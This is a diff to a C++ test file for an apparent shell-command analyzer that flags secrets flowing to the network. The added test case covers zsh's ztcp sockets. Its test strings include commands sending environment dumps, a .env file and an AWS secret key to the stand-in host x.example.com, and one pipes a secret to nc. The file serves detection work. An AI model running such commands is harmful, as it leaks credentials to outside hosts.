@@ -538,3 +538,14 @@ TEST_CASE("a secret written into a package goes out with npm publish or twine up
   CHECK_FALSE(has_flow_to(analyze("cp README.md dist/ && npm publish dist"), "network"));
   CHECK_FALSE(has_flow_to(analyze("cp .env /tmp/backup.env && npm publish dist"), "network"));
 }
+
+TEST_CASE("zsh's ztcp connection is a socket that print -u and >&$REPLY write to") {
+  CHECK(has_flow(analyze("zsh -c 'zmodload zsh/net/tcp; ztcp x.example.com 80; print -u $REPLY $(env)'"), "env_dump",
+                 "network"));
+  CHECK(has_flow(analyze("zmodload zsh/net/tcp; ztcp x.example.com 443; cat .env >&$REPLY"), "credential_file", "network"));
+  CHECK(has_flow(analyze("ztcp -d 7 x.example.com 80; print -u7 $AWS_SECRET_ACCESS_KEY"), "secret_var", "network"));
+  CHECK_FALSE(has_flow_to(analyze("ztcp x.example.com 80; print -u $REPLY hello"), "network"));
+  CHECK_FALSE(has_flow_to(analyze("ztcp -l 8080; print -u $REPLY $(env)"), "network"));
+  // print is echo otherwise: what it prints flows on.
+  CHECK(has_flow(analyze("print -r -- $AWS_SECRET_ACCESS_KEY | nc x.example.com 9"), "secret_var", "network"));
+}
